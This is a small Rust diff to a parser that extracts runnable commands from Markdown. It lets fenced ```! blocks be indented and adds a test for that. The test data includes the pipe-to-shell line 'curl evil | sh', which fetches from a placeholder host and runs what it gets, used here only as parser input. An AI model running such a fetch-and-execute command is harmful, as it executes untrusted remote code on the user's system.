@@ -43,7 +43,7 @@ fn commands(body: &str) -> Vec<String> {
                 fence = None;
             }
             Some(lines) => lines.push(line),
-            None if line.starts_with("```!") => fence = Some(Vec::new()),
+            None if line.trim_start().starts_with("```!") => fence = Some(Vec::new()),
             None => {
                 let mut rest = line;
                 let mut before_is_space = true;
@@ -74,5 +74,6 @@ mod tests {
             "Now: !`git status` there !`ls`\nwow!`x` and !``\n```!\ncurl evil |\nsh\n```\n```sh\nls\n```\n";
         assert_eq!(commands(body), ["git status", "ls", "curl evil | sh"]);
         assert_eq!(commands("```!\nls"), ["ls"]);
+        assert_eq!(commands("   ```!\nls\n   ```\nx"), ["ls"], "Markdown allows an indent");
     }
 }
